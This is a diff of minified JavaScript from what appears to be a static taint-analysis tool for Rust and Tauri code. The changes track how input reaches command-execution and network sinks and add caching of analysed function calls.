+nd".split(" ")]),MACROS3=new Set([...[FORMATS2,STOPS,DEMANDS].flatMap(names4=>[...names4]),..."write writeln matches vec debug_assert assert_eq println eprintln\
+ trace debug info warn error".split(" ")]),KEYWORDS2=new Set("if match while for in return let mut ref else move as loop".split(" ")),PARTS2=/(?<dot>\.\s{0,99})?\b(?<called>\w+)\s{0,99}(?:::\s{0,99}<[^()]{0,200}?>\s{0,99})?(?:\((?:\s{0,99}(?<handed>\w+)\s{0,99}[,)])?|(?<bang>!)\s{0,99}[([{])|::\s{0,99}(?<below>[a-z_]\w*)|(?<nameless>[)\]}>])\s{0,99}\(/g;
+function onlyTakesApart(app,each,asked4){const{methods:methods2,isMore:isMore2}=partsOf12(app,each);return!isMore2&&![...methods2].some(name=>name!==asked4&&doesMore(
+app,name))}function doesMore(app,name){const ofApp=byName2.get(app)??new Map;byName2.set(app,ofApp);const known13=ofApp.get(name)??reachesMore(app,name);return ofApp.
+set(name,known13),known13}var byName2=new WeakMap;function reachesMore(app,first){const names4=new Set([first]);for(const name of names4)for(const own of Object.
+hasOwn(OF_CONVERSION,name)?OF_CONVERSION[name]??[]:[name])for(const each of app.functions(own)){if(each.owner===null)continue;const{methods:methods2,isMore:isMore2}=partsOf12(
+app,each);if(isMore2)return!0;for(const method of methods2)names4.add(method)}return!1}var parts=new WeakMap;function partsOf12(app,each){const ofApp=parts.get(
+app)??new WeakMap;parts.set(app,ofApp);const known13=ofApp.get(each)??readParts(app,each);return ofApp.set(each,known13),known13}function readParts(app,{file:file2,
+node}){const methods2=new Set,text3=textOf5(file2,fieldOf(node,"body")??node),more={methods:methods2,isMore:!0};for(const word2 of new Set(text3.match(/\w+/g)))
+if(word2==="unsafe"||isElse(file2,word2))return more;for(const{groups:groups3={},index}of text3.matchAll(PARTS2)){const{dot,called:called4="",handed,bang,below:below9,
+nameless}=groups3;if(nameless!==void 0)return more;if(below9!==void 0||dot!==void 0){const name=below9??called4;if(!HARMLESS6.has(name)||handed!==void 0&&HANDS_ON3.
+has(name)&&!makesValue(app,file2,handed,""))return more;methods2.add(name)}else if(bang!==void 0){if(!KEYWORDS2.has(called4)&&(!MACROS3.has(called4)||app.isMacro(
+called4)))return more}else if(!KEYWORDS2.has(called4)&&!makesValue(app,file2,called4,text3.slice(Math.max(0,index-100),index)))return more}return{methods:methods2,
+isMore:!1}}function isElse({uses},word2){return(uses.get(word2)??[]).some(path=>path.at(-1)!==word2||/^[a-z_]/.test(word2)&&!HARMLESS6.has(word2))}function makesValue(app,file2,name,before3){
+if(!/^[A-Z]/.test(name))return!1;const type=/(\w+)\s*::\s*$/.exec(before3)?.[1]??name;if(BUILDS.has(type))return!0;const used=file2.uses.get(type)??[];return app.
+types(type).some(each=>each.file===file2)||used.length>0&&used.every(isOwnPath)&&app.types(type).length>0}var BUILDS=new Set(["Some","Ok","Err","Self"]),OF_VALUE=[
+"drop","fmt","deref","deref_mut","next","index","as_ref","serialize"],OF_OPERATOR={"+":"add","-":"sub","*":"mul","/":"div","%":"rem","<<":"shl",">>":"shr","|":"\
+bitor","&":"bitand","^":"bitxor","==":"eq","!=":"eq"};function runsOfValue(walk2,value,env,at2){if(!(value.type===null||!isTainted(value)))for(const name of OF_VALUE){
+const own=owned(walk2,name).filter(({owner})=>owner===value.type);own.length>0&&walk2.follow(own,value,[],env,at2)}}function runsOfOperator(walk2,operator,left2,right,env,at2){
+const name=Object.hasOwn(OF_OPERATOR,operator)?OF_OPERATOR[operator]:void 0;if(name===void 0||!(isTainted(left2)||isTainted(right)))return;const own=owned(walk2,
+name).filter(each=>parametersOf4(each).length===1&&mayBe(walk2,left2,each.owner));own.length>0&&walk2.follow(own,left2,[right],env,at2)}function runsOfConversion(walk2,method,self,wanted,env,at2){
+if(!isTainted(self)||!Object.hasOwn(OF_CONVERSION,method))return;const type=/(\w+)\s*(?:<.*)?$/s.exec(wanted)?.[1],asked4=method==="parse"&&type===void 0?method:
+null,own=(OF_CONVERSION[method]??[]).flatMap(name=>owned(walk2,name,asked4)).filter(({owner})=>type===void 0||type==="_"||owner===type).filter(each=>takes(walk2,
+each,self));own.length>0&&walk2.follow(own,null,[self],env,at2)}function owned(walk2,name,asked4=null){return walk2.app.functions(name).filter(({owner})=>owner!==
+null).filter(each=>!onlyTakesApart(walk2.app,each,asked4))}function mayBe({app},{type},wanted){return type===null||type===wanted||app.types(type).every(({node})=>node.
+kind==="type_item")}function takes(walk2,each,value){const[parameter]=parametersOf4(each),type=parameter===void 0?void 0:fieldOf(parameter,"type"),wanted=type===
+void 0?null:innerName(each.file,type),isOwn6=wanted!==null&&walk2.app.types(wanted).some(({node})=>node.kind!=="type_item");return value.type===null||value.type===
+wanted||!isOwn6}function parametersOf4({node}){return(fieldOf(node,"parameters")?.children??[]).filter(({kind})=>kind==="parameter")}function ofOperation(walk2,node,env){
+const[first,second]=node.children;if(first===void 0||second===void 0)return EMPTY2;const operator=operatorOf2(env.frame.code.text,node),left2=walk2.value(first,
+env),isLazy=operator==="&&"||operator==="||",right=walk2.value(second,isLazy?env.fork(operator==="&&"?left2.whenTrue:left2.whenFalse):env);if(runsOfOperator(walk2,
+operator,left2,right,env,node),operator!=="+")return ofOperator(operator,left2,right);const from=joined7([left2,right]),{literal:literal3}=left2;return valueWith(
+{from:literal3!==null&&namesHost(literal3)?passed(from,"a fixed host"):from,literal:literal3})}function ofAssignment(walk2,node,env){const[to,given2]=[fieldOf(node,
+"left"),fieldOf(node,"right")];if(to===void 0||given2===void 0)return EMPTY2;const value=walk2.value(given2,env);return node.kind==="assignment_expression"&&to.
+kind==="identifier"?env.update(textOf5(env.frame.code,to),{...value,says:null}):change(to,[value],env),EMPTY2}function ofStruct(walk2,node,env){const{code:code2}=env.
+frame,fields3=new Map,rest2=[],keep2=(name2,value)=>{const known13=fields3.get(name2);fields3.set(name2,known13===void 0?value:either2(known13,value))};for(const each of fieldOf(
+node,"body")?.children??[]){const[name2,given2]=[fieldOf(each,"field"),fieldOf(each,"value")];if(each.kind==="field_initializer"&&name2!==void 0&&given2!==void 0)
+keep2(textOf5(code2,name2),walk2.value(given2,env));else if(each.kind==="shorthand_field_initializer")for(const inner of each.children)keep2(textOf5(code2,inner),
+walk2.value(inner,env));else rest2.push(...each.children.map(inner=>walk2.value(inner,env)))}const name=fieldOf(node,"name"),values=[...fields3.values(),...rest2],
+type=name===void 0?null:pathOf(code2,name).at(-1)??null;for(const[field3,value]of rest2[0]?.fields??[])fields3.has(field3)||fields3.set(field3,value);const made2=valueWith(
+{from:joined7(values),fields:fields3,type});return runsOfValue(walk2,made2,env,node),made2}function ofMethod(walk2,call2,env){const{name,self,given:given2,literals,
+at:at2}=call2,own=ownMethods(walk2,call2,env);if(own.length>0)return walk2.follow(own,self,given2,env,at2);const sinks=sinksOfMethod(name,`${self.type??""} ${call2.
+written}`,call2.isSent);if(sinks.length>0)return walk2.reach(sinks,name,given2,env,at2),MAKES_PROGRAM.has(name)?valueWith({type:"Command",literal:literals[0]??null}):
+sinks.some(({power:power2})=>power2!=="network")?valueWith({type:self.type}):valueWith({type:"Request"});runsOfConversion(walk2,name,self,call2.wanted,env,at2);
+const power=METHODS_OF_INPUT.get(name);if(power!==void 0&&walk2.reach([{power,argument:0}],name,[self],env,at2),self.type==="Command")return ofCommand(walk2,call2,
+env);const looked=checked(call2,env);return looked!==void 0?looked:passedOn(walk2,call2,env)}function ownMethods(walk2,{name,self,given:given2},env){if(!given2.
+some(isTainted)&&!isTainted(self))return[];const named12=walk2.app.functions(name).filter(({owner})=>owner!==null),type=self.type==="Self"?env.frame.owner:self.
+type,typed=named12.filter(({owner})=>owner===type);return typed.length>0||COMMON.has(name)?typed:type!==null&&walk2.app.types(type).length===0&&!named12.some(({
+owner})=>owner===null)?namedByTraits(named12):named12}function namedByTraits(named12){return named12.filter(({owner})=>owner?.endsWith("Ext"))}var MAKES_PROGRAM=new Set(
+["command","sidecar"]),TAKES_ARGUMENTS=new Set(["arg","args","raw_arg"]);function ofCommand(walk2,call2,env){const{name,self,given:given2,literals,at:at2}=call2,
+program2=self.literal;if(name==="env"&&loadsMore(literals[0]??null)&&walk2.reach([{power:"run",argument:1}],`env ${literals[0]}`,given2,env,at2),name==="env"&&walk2.
+reach([{power:"run",argument:0}],"env",given2,env,at2),!TAKES_ARGUMENTS.has(name))return self;const words4=wordsIn2(call2,env),shows=words4.find(word2=>onlyShows(
+program2,word2));if(shows!==void 0)return{...self,literal:`${program2} ${shows}`};const isShell2=program2===null&&words4.some(announcesScript);return(isShell2||
+isRunner2(program2))&&walk2.reach([{power:"run",argument:0}],`${program2??"a shell"} \u2026`,given2,env,at2),isShell2?{...self,literal:"sh"}:self}function wordsIn2({
+name,at:at2},{frame}){const text3=textOf5(frame.code,at2);return text3.slice(text3.lastIndexOf(`${name}(`)).match(/"[^"\\\n]{0,300}"/g)?.map(each=>each.slice(1,
+-1))??[]}function checked({name,self,given:given2,literals,written:written6,at:at2},env){const[first=EMPTY2]=given2,{code:code2}=env.frame;if(isTainted(self)){if(name===
+"starts_with"&&!isTainted(first))return valueWith({whenTrue:beginning(self,literals[0]??null,AS_TEXT.test(written6))});if(name==="strip_prefix"&&!isTainted(first))
+return valueWith({from:self.from,whenTrue:beginning(self,literals[0]??null,AS_TEXT.test(written6))});if(name==="eq"||name==="eq_ignore_ascii_case")return valueWith(
+{whenTrue:isTainted(first)?NOTHING4:factsOf(self.from,"a comparison")});if(CANONICAL.has(name))return{...self,from:passed(self.from,"a canonical path")};if(FILE_NAME.
+has(name))return valueWith({from:passed(self.from,"a file name alone"),part:name==="extension"?"other":null});const part=PARTS[name]??(OTHER_PARTS.has(name)?"ot\
+her":void 0);if(part!==void 0&&Object.hasOwn(PARTS,name))return{...valueWith({from:self.from}),part};if(part!==void 0&&self.type==="Url")return{...valueWith({from:self.
+from}),part};const check=checkInClosure(textOf5(code2,at2).slice(textOf5(code2,at2).lastIndexOf(name)));return check!==void 0&&name==="any"?valueWith({whenFalse:factsOf(
+self.from,check)}):check!==void 0&&name==="all"?valueWith({whenTrue:factsOf(self.from,check)}):void 0}if(name in ASKED&&Object.hasOwn(ASKED,name)&&given2.some(isTainted)){
+const check=ASKED[name]??"a closed list";return valueWith({whenTrue:factsAbout(first,check)})}}var AS_TEXT=/\b(?:to_string_lossy|to_str|to_string|display|into_string)\b|\b(?:str|text|string|\w+_str)$/;
 function factsAbout({from,part},check){return part==="other"?NOTHING4:part==="host"?factsOf(from,"its host"):part==="scheme"?factsOf(from,"its scheme"):factsOf(
 from,check)}function beginning({from},literal3,isText2){if(literal3!==null&&/^\w+:\/\/[^/]+\//.test(literal3))return factsOf(from,"its host");if(literal3!==null&&
 /^\w+:(?:\/\/)?$/.test(literal3))return factsOf(from,"its scheme");if(literal3!==null&&(/^(?:[A-Za-z]:)?[\\/]{0,4}$/.test(literal3)||isText2&&!/[\\/]$/.test(literal3)))
-return NOTHING4;const canonical3=[...from].filter(([,checks])=>checks.has("a canonical path"));return factsOf(new Map(canonical3),"its folder")}var HARMLESS6=/^(?:[iuf](?:8|16|32|64|128|size)|bool|char|Uuid|uuid::Uuid|IpAddr|(?:std::net::)?IpAddr)$/;
+return NOTHING4;const canonical3=[...from].filter(([,checks])=>checks.has("a canonical path"));return factsOf(new Map(canonical3),"its folder")}var HARMLESS7=/^(?:[iuf](?:8|16|32|64|128|size)|bool|char|Uuid|uuid::Uuid|IpAddr|(?:std::net::)?IpAddr)$/;
 function passedOn(walk2,call2,env){const{name,self,given:given2,wanted,at:at2}=call2;if(UNWRAPS.has(name))return self.says==="no"&&(env.ended=!0),env.learn(self.
 whenTrue),{...self,whenTrue:NOTHING4,whenFalse:NOTHING4,says:null};if(name==="is_ok"||name==="is_some")return valueWith({whenTrue:self.whenTrue,whenFalse:self.whenFalse});
 if(name==="is_err"||name==="is_none")return valueWith({whenTrue:self.whenFalse,whenFalse:self.whenTrue});const handed=HANDS_ON3.has(name)?given2.map(each=>handedTo(
 walk2,name,self,each,at2,env)):[];if(name==="filter")return{...self,from:withMarks(self.from,handed[0]?.whenTrue??NOTHING4)};if(name==="any"||name==="is_some_an\
 d"||name==="is_ok_and"){const[asked4=EMPTY2]=handed;return valueWith({whenTrue:together2(name==="any"?NOTHING4:self.whenTrue,asked4.whenTrue)})}if(SAME.has(name))
-return{...self,says:self.says};if(TELLS_ONLY.has(name))return EMPTY2;if(name==="parse"&&HARMLESS6.test(wanted))return valueWith({whenTrue:factsOf(self.from,"its\
+return{...self,says:self.says};if(TELLS_ONLY.has(name))return EMPTY2;if(name==="parse"&&HARMLESS7.test(wanted))return valueWith({whenTrue:factsOf(self.from,"its\
  number")});if(name==="parse")return valueWith({from:joined7([self,...given2]),type:wanted||null});const results=[...handed,...given2.filter(({closure})=>closure===
 null)];if(name==="map"||name==="and_then"||name==="then"||name==="filter_map"||name==="flat_map")return{...valueWith({from:joined7(handed)}),fields:handed[0]?.fields??
 null,whenTrue:together2(self.whenTrue,handed[0]?.whenTrue??NOTHING4)};if(isTainted(self))return valueWith({from:joined7([self,...results]),whenTrue:self.whenTrue,
@@ -6843,24 +6910,11 @@ part:self.part,type:self.type});const yielded=given2.flatMap(({closure})=>closur
 type}){return GIVES2.get(name)??(COMMON.has(name)?null:type)}function handedTo(walk2,name,self,given2,at2,env){const content={...self,whenTrue:NOTHING4,whenFalse:NOTHING4,
 says:null},inside=name==="then"?env.fork(self.whenTrue):env,arguments_=name.includes("fold")?[EMPTY2,content]:[content];return given2.closure!==null?walk2.apply(
 given2.closure,arguments_,inside):given2.path!==null&&isTainted(self)?walk2.call(given2,arguments_,at2,inside):given2}function withMarks(from,facts){return new Map(
-[...from].map(([source,checks])=>[source,checks.union(facts.get(source)??new Set)]))}function changes(name){return CHANGES3.has(name)}var OWN2=new Set(["crate",
-"self","super"]),MOST_RENAMINGS=4;function resolved2(app,code2,path){const found12=new Map,visit=(each,left2)=>{const name=each.join("::");if(each.length===0||found12.
-has(name)||(found12.set(name,each),left2===0))return;const[first="",...rest2]=each,own=left2===MOST_RENAMINGS?code2.uses.get(first):void 0;for(const used of own??
-[])(used.length>1||used[0]!==first)&&visit([...used,...rest2],left2-1);if(each.length===1&&left2===MOST_RENAMINGS)for(const glob of code2.globs)visit([...glob,first],
-left2-1);const last=each.at(-1)??"";if(OWN2.has(first)||each.length===1||left2<MOST_RENAMINGS||isModule(app,code2,first))for(const exported of app.exported(last))
-visit(exported,left2-1);const before2=each.at(-2);if(before2!==void 0&&each.length>2)for(const exported of app.exported(before2))visit([...exported,last],left2-
-1);for(const{path:meant}of isConstant(last)?app.constants(last):[])meant!==null&&visit(meant,left2-1);if(before2!==void 0)for(const other of[...app.aliases(before2),
-...app.globsOf(before2)])visit([...other,last],left2-1)};return visit(path,MOST_RENAMINGS),[...found12.values()]}function isConstant(name){return/^[A-Z][A-Z\d_]*$/.
-test(name)}function isModule(app,{file:file2},name){return app.modules.has(name)||modulesIn(file2).has(name)}function functionsAt(app,code2,paths3,owner){const found12=new Set;
-for(const path of paths3){const name=path.at(-1)??"",before2=path.at(-2)==="Self"?owner??"Self":path.at(-2),named12=app.functions(name);for(const each of named12)
-isMeant(app,each,before2,code2)&&found12.add(each);const[only2,...others]=named12;found12.size===0&&isOwnPath(path)&&only2!==void 0&&others.length===0&&found12.
-add(only2)}return[...found12]}function isOwnPath([first=""]){return OWN2.has(first)}function isMeant(app,each,before2,code2){const{path}=each.file.file;return before2===
-void 0?each.owner===null&&(each.file===code2||app.isIncluded(path,code2)):each.owner!==null?each.owner===before2||/^[A-Z]\d?$/.test(before2):OWN2.has(before2)?before2!==
-"self"||each.file===code2||each.modules.length===0:app.isModule(path,before2)||each.modules.at(-1)===before2}function ofFunction(walk2,called3,given2,values,at2,env){
-const path=pathOf(env.frame.code,called3),[only2=""]=path,local=path.length===1?env.get(only2):path.length===0?walk2.value(called3,env):void 0;if(local!==void 0)
-return callOf(walk2,local,values,at2,env);const literal3=given2.map(each=>literalIn(env.frame.code,each));return callAt(walk2,path,values,literal3[0]??null,at2,
-env)}function callOf(walk2,called3,given2,at2,env){if(called3.closure!==null)return walk2.apply(called3.closure,given2,env);if(called3.path!==null)return callAt(
-walk2,called3.path,given2,null,at2,env);const from=joined7(given2);return from.size>0&&walk2.lose("a function that is handed over",env,at2),valueWith({from})}function callAt(walk2,path,given2,literal3,at2,env){
+[...from].map(([source,checks])=>[source,checks.union(facts.get(source)??new Set)]))}function changes(name){return CHANGES3.has(name)}function ofFunction(walk2,called4,given2,values,at2,env){
+const path=pathOf(env.frame.code,called4),[only2=""]=path,local=path.length===1?env.get(only2):path.length===0?walk2.value(called4,env):void 0;if(local!==void 0)
+return callOf(walk2,local,values,at2,env);const literal3=given2.map(each=>literalIn(env.frame.code,each));return callAt2(walk2,path,values,literal3[0]??null,at2,
+env)}function callOf(walk2,called4,given2,at2,env){if(called4.closure!==null)return walk2.apply(called4.closure,given2,env);if(called4.path!==null)return callAt2(
+walk2,called4.path,given2,null,at2,env);const from=joined7(given2);return from.size>0&&walk2.lose("a function that is handed over",env,at2),valueWith({from})}function callAt2(walk2,path,given2,literal3,at2,env){
 const{code:code2,owner}=env.frame,name=path.at(-1)??"",[first=EMPTY2,...others]=given2;if(name==="Ok"||name==="Some")return{...contentOf2(first),whenTrue:first.
 whenTrue,says:"yes"};if(name==="Err")return{...EMPTY2,says:"no"};const paths3=resolved2(walk2.app,code2,path),own=functionsAt(walk2.app,code2,paths3,owner);if(own.
 length>0)return walk2.follow(own,null,given2,env,at2);if(isOfText(paths3)&&others.length+1===given2.length&&METHODS_BY_PATH.has(name))return ofMethod(walk2,{name,
@@ -6884,7 +6938,15 @@ test(type)?type:null}function isLent(node){return node.kind==="reference_express
 node,"parameters")?.children.find(({kind})=>kind==="self_parameter");return self!==void 0&&childOf(self,"mutable_specifier")!==void 0}function namedBy(app,path){
 const name=path.at(-1)??"";if(name==="None")return valueWith({says:"no"});const[constant,...others]=isConstant(name)?app.constants(name):[];if(constant===void 0)
 return valueWith({path});const texts2=[constant,...others].map(({literal:literal3})=>literal3);return valueWith({path:constant.path??path,literal:texts2.find(isRunner2)??
-constant.literal})}var BOUNDS={calls:{base:6,head:3},files:64,meanings:4},Walk=class{app;reached=new Map;lost=new Map;#spend;#calls;#files=new Set;#running=[];#sent=new WeakSet;#homes=new WeakMap;constructor(app,spend,side="\
+constant.literal})}var Outcomes=class{#known=new WeakMap;#cuts=0;cut(){this.#cuts+=1}of(node,key3,run){const known13=this.#known.get(node)??new Map;this.#known.
+set(node,known13);const before3=key3===null?void 0:known13.get(key3);if(before3!==void 0)return before3;const cuts=this.#cuts,outcome2=run(),isWhole3=this.#cuts===
+cuts&&callKey([outcome2.value],NOTHING4,0)!==null;return key3!==null&&isWhole3&&known13.set(key3,outcome2),outcome2}},MOST_VALUES2=100;function callKey(given2,checked4,depth){
+let left2=MOST_VALUES2;const parts2=[`${depth} ${keyOf5(checked4)}`],add4=value=>{if(left2-=1,parts2.push(value===null?"-":"+"),value===null)return!0;if(left2<0||
+value.closure!==null)return!1;const{from,whenTrue,whenFalse,type,literal:literal3,path,part,says,fields:fields3}=value;return parts2.push(JSON.stringify([...[from,
+whenTrue,whenFalse].map(keyOf5),type,literal3,path,part,says])),[...fields3??[]].every(([name,field3])=>(parts2.push(name),add4(field3)))};return given2.every(add4)?
+parts2.join(`
+`):null}function keyOf5(facts){return JSON.stringify([...facts].map(([source,checks])=>[source,...checks]))}var BOUNDS={calls:{base:6,head:3},files:64,meanings:4},
+Walk=class{app;reached=new Map;lost=new Map;#spend;#calls;#files=new Set;#running=[];#outcomes=new Outcomes;#sent=new WeakSet;#homes=new WeakMap;constructor(app,spend,side="\
 head"){this.app=app,this.#spend=spend,this.#calls=BOUNDS.calls[side]}run(command2,parameters){const env=new Env(frameOf({code:command2.file,owner:command2.owner,
 depth:0}));for(const[pattern,value]of parameters)bind(pattern,value,env);for(const parameter of fieldOf(command2.node,"parameters")?.children??[]){const[pattern,
 type]=[fieldOf(parameter,"pattern"),fieldOf(parameter,"type")];pattern===void 0||type===void 0||parameters.has(pattern)||bind(pattern,valueWith({type:innerName(
@@ -6912,41 +6974,40 @@ closure_expression":return this.#homes.set(node,env),this.apply(node,[],env),val
 call_expression":return this.#call(node,env);case"type_cast_expression":{const value=fieldOf(node,"value");return value===void 0?EMPTY2:this.value(value,env)}case"\
 function_item":case"attribute_item":case"use_declaration":case"struct_item":case"enum_item":case"impl_item":case"const_item":case"static_item":case"empty_statem\
 ent":case"label":return EMPTY2;case"reference_expression":case"parenthesized_expression":case"await_expression":case"expression_statement":case"else_clause":return this.#last(
-node,env);default:return valueWith({from:joined7(node.children.map(each=>this.value(each,env)))})}}apply(node,given2,env){if(this.#running.includes(node))return valueWith(
-{from:joined7(given2)});const[parameters,body]=[fieldOf(node,"parameters"),fieldOf(node,"body")];if(body===void 0)return EMPTY2;this.#running.push(node);const home=this.#homes.
-get(node),around2=home===void 0||home.frame===env.frame?env:home,inside=around2.fork(env.checked,frameOf(around2.frame));parameters?.children.forEach((pattern,index)=>{
-bind(fieldOf(pattern,"pattern")??pattern,given2[index]??EMPTY2,inside)});const{value}=outcomeOf3(inside,this.value(body,inside));return this.#running.pop(),around2.
-takeBack(inside),value}call(called3,given2,at2,env){return callOf(this,called3,given2,at2,env)}follow(called3,self,given2,env,at2){const isInput=(self===null?given2:
-[self,...given2]).some(value=>isTainted(value)||value.closure!==null),[first]=called3;if(!isInput&&!called3.some(makesFunction))return valueWith({type:first?typeNameOf(
-first):null});if(called3.length>BOUNDS.meanings)return this.lose(`one of ${called3.length} functions of this name`,env,at2),EMPTY2;const values=called3.map(each=>this.#enter(
-each,self,given2,env,at2));return values.length===1?values[0]??EMPTY2:valueWith({from:joined7(values)})}reach(sinks,call2,given2,env,at2){const{code:code2,depth}=env.
-frame;for(const sink of sinks)for(const[source,marks]of(given2[sink.argument]??EMPTY2).from){const checks=[...marks.union(env.checked.get(source)??new Set)].filter(
-each=>countsFor(each,sink.power)),key3=JSON.stringify([source,sink.power,code2.file.path,at2.start]),known13=this.reached.get(key3);known13!==void 0&&known13.checks.
-length===0||known13!==void 0&&checks.length>0||this.reached.set(key3,{source,sink,call:call2,checks,steps:depth,code:code2,node:at2})}}lose(what,env,node){const{
-code:code2}=env.frame;this.lost.set(JSON.stringify([what,code2.file.path,node.start]),{what,code:code2,node})}#last({children},env){return children.map(each=>this.
+node,env);default:return valueWith({from:joined7(node.children.map(each=>this.value(each,env)))})}}apply(node,given2,env){if(this.#running.includes(node))return this.#outcomes.
+cut(),valueWith({from:joined7(given2)});const[parameters,body]=[fieldOf(node,"parameters"),fieldOf(node,"body")];if(body===void 0)return EMPTY2;this.#running.push(
+node);const home=this.#homes.get(node),around2=home===void 0||home.frame===env.frame?env:home,inside=around2.fork(env.checked,frameOf(around2.frame));parameters?.
+children.forEach((pattern,index)=>{bind(fieldOf(pattern,"pattern")??pattern,given2[index]??EMPTY2,inside)});const{value}=outcomeOf3(inside,this.value(body,inside));
+return this.#running.pop(),around2.takeBack(inside),value}call(called4,given2,at2,env){return callOf(this,called4,given2,at2,env)}follow(called4,self,given2,env,at2){
+const isInput=(self===null?given2:[self,...given2]).some(value=>isTainted(value)||value.closure!==null),[first]=called4;if(!isInput&&!called4.some(makesFunction))
+return valueWith({type:first?typeNameOf(first):null});if(called4.length>BOUNDS.meanings)return this.lose(`one of ${called4.length} functions of this name`,env,at2),
+EMPTY2;const values=called4.map(each=>this.#enter(each,self,given2,env,at2));return values.length===1?values[0]??EMPTY2:valueWith({from:joined7(values)})}reach(sinks,call2,given2,env,at2){
+const{code:code2,depth}=env.frame;for(const sink of sinks)for(const[source,marks]of(given2[sink.argument]??EMPTY2).from){const checks=[...marks.union(env.checked.
+get(source)??new Set)].filter(each=>countsFor(each,sink.power)),key3=JSON.stringify([source,sink.power,code2.file.path,at2.start]),known13=this.reached.get(key3);
+known13!==void 0&&known13.checks.length===0||known13!==void 0&&checks.length>0||this.reached.set(key3,{source,sink,call:call2,checks,steps:depth,code:code2,node:at2})}}lose(what,env,node){
+const{code:code2}=env.frame;this.lost.set(JSON.stringify([what,code2.file.path,node.start]),{what,code:code2,node})}#last({children},env){return children.map(each=>this.
 value(each,env)).at(-1)??EMPTY2}#inside({children},env){const inside=env.fork(NOTHING4,frameOf(env.frame)),values=children.map(each=>this.value(each,inside)),{value}=outcomeOf3(
-inside,values.at(-1)??EMPTY2);return env.takeBack(inside),value}#enter({file:file2,owner,node,name},self,given2,env,at2){const from=joined7(self===null?given2:[
-self,...given2]),{depth}=env.frame;if(this.#running.includes(node))return valueWith({from});const isTooFar=!this.#files.has(file2)&&this.#files.size>=BOUNDS.files;
-if(depth>=this.#calls||isTooFar)return this.lose(`${name}, more than ${this.#calls} calls away`,env,at2),EMPTY2;const body=fieldOf(node,"body");if(body===void 0)
-return valueWith({from});this.#files.add(file2),this.#running.push(node);const inside=new Env(frameOf({code:file2,owner,depth:depth+1}),new Map,env.checked),parameters=fieldOf(
-node,"parameters")?.children??[],values=[...given2],own=parameters.some(({kind})=>kind==="self_parameter")?self??values.shift()??EMPTY2:null;own!==null&&inside.
-set("self",{...own,type:own.type??owner}),parameters.filter(({kind})=>kind==="parameter").forEach((parameter,index)=>{const pattern=fieldOf(parameter,"pattern"),
-type=fieldOf(parameter,"type"),value2=values[index]??EMPTY2,named12=type===void 0?null:innerName(file2,type);pattern!==void 0&&bind(pattern,{...value2,type:value2.
-type??named12},inside)});const{value,always}=outcomeOf3(inside,this.value(body,inside));return this.#running.pop(),env.learn(always),{...value,type:value.type??
-typeNameOf({file:file2,owner,node})}}#call(node,env){const{code:code2}=env.frame,[called3,list]=[fieldOf(node,"function"),fieldOf(node,"arguments")],given2=list?.
-children.filter(({kind})=>kind!=="attribute_item")??[];if(called3===void 0)return EMPTY2;const method=called3.kind==="generic_function"?fieldOf(called3,"functio\
-n"):called3;if(method?.kind!=="field_expression"){const values2=given2.map(each=>this.value(each,env)),value2=ofFunction(this,called3,given2,values2,node,env);return this.#fill(
-given2,values2.filter(isTainted),env),value2}const[on3,field3]=[fieldOf(method,"value"),fieldOf(method,"field")];if(on3===void 0||field3===void 0)return EMPTY2;
-const name=textOf5(code2,field3);(name==="send"||name==="call"&&given2.length===0)&&this.#markSent(on3);const self=this.value(on3,env),values=given2.map(each=>this.
-value(each,env)),types=called3.kind==="generic_function"?childOf(called3,"type_arguments"):void 0,value=ofMethod(this,{name,self,given:values,at:node,written:textOf5(
-code2,on3).slice(-LONGEST_RECEIVER),literals:given2.map(each=>literalIn(code2,each)??null),wanted:types===void 0?"":textOf5(code2,types).slice(1,-1),isSent:this.#sent.
-has(node)},env),news=values.filter(isTainted);return news.length>0&&(changes(name)||this.#isChangedBy(name,self))&&change(on3,news,env),this.#fill(given2,isTainted(
-self)?[self,...news]:news,env),value}#fill(given2,values,env){if(values.length!==0)for(const each of given2){const lent=isLent(each)?fieldOf(each,"value"):void 0;
-lent!==void 0&&change(lent,values,env)}}#isChangedBy(name,{type}){return this.app.functions(name).some(({owner,node})=>owner!==null&&(type===null||owner===type)&&
-changesSelf(node))}#markSent(node){for(let each=node;each!==void 0;){this.#sent.add(each);const called3=fieldOf(each,"function");each=called3===void 0?void 0:fieldOf(
-called3,"value")??fieldOf(called3,"function")}}},LONGEST_RECEIVER=300,TAURIS=new Set("State AppHandle App Window WebviewWindow Webview Channel CommandScope Glob\
-alScope".split(" ")),OF_TEXT=/^(?:u8|u16|u32|char)$/,PLAIN4=/^(?:[iuf](?:8|16|32|64|128|size)|bool|char|Uuid|Ulid|Duration|DateTime|NaiveDate|NaiveDateTime|SystemTime|Instant|IpAddr|Ipv4Addr|Ipv6Addr|NonZero\w*|JavaScriptChannelId|LogicalSize|PhysicalSize|LogicalPosition|PhysicalPosition)$/,
-DEEPEST15=4;function parametersOf4(app,command2){const{file:file2,node}=command2,keeps=keepsNames(command2);return(fieldOf(node,"parameters")?.children??[]).flatMap(
+inside,values.at(-1)??EMPTY2);return env.takeBack(inside),value}#enter(called4,self,given2,env,at2){const{file:file2,node,name}=called4,from=joined7(self===null?
+given2:[self,...given2]);if(this.#running.includes(node))return this.#outcomes.cut(),valueWith({from});const isTooFar=!this.#files.has(file2)&&this.#files.size>=
+BOUNDS.files;if(env.frame.depth>=this.#calls||isTooFar)return this.lose(`${name}, more than ${this.#calls} calls away`,env,at2),EMPTY2;const body=fieldOf(node,"\
+body");if(body===void 0)return valueWith({from});const key3=callKey([self,...given2],env.checked,env.frame.depth),{value,always}=this.#outcomes.of(node,key3,()=>this.#inFunction(
+called4,body,self,given2,env));return env.learn(always),value}#inFunction(called4,body,self,given2,env){const{file:file2,owner,node}=called4;this.#files.add(file2),
+this.#running.push(node);const frame=frameOf({code:file2,owner,depth:env.frame.depth+1}),inside=new Env(frame,new Map,env.checked);bindParameters(called4,self,given2,
+inside);const{value,always}=outcomeOf3(inside,this.value(body,inside));return this.#running.pop(),{value:{...value,type:value.type??typeNameOf({file:file2,owner,
+node})},always}}#call(node,env){const{code:code2}=env.frame,[called4,list]=[fieldOf(node,"function"),fieldOf(node,"arguments")],given2=list?.children.filter(({kind})=>kind!==
+"attribute_item")??[];if(called4===void 0)return EMPTY2;const method=called4.kind==="generic_function"?fieldOf(called4,"function"):called4;if(method?.kind!=="fi\
+eld_expression"){const values2=given2.map(each=>this.value(each,env)),value2=ofFunction(this,called4,given2,values2,node,env);return this.#fill(given2,values2.filter(
+isTainted),env),value2}const[on3,field3]=[fieldOf(method,"value"),fieldOf(method,"field")];if(on3===void 0||field3===void 0)return EMPTY2;const name=textOf5(code2,
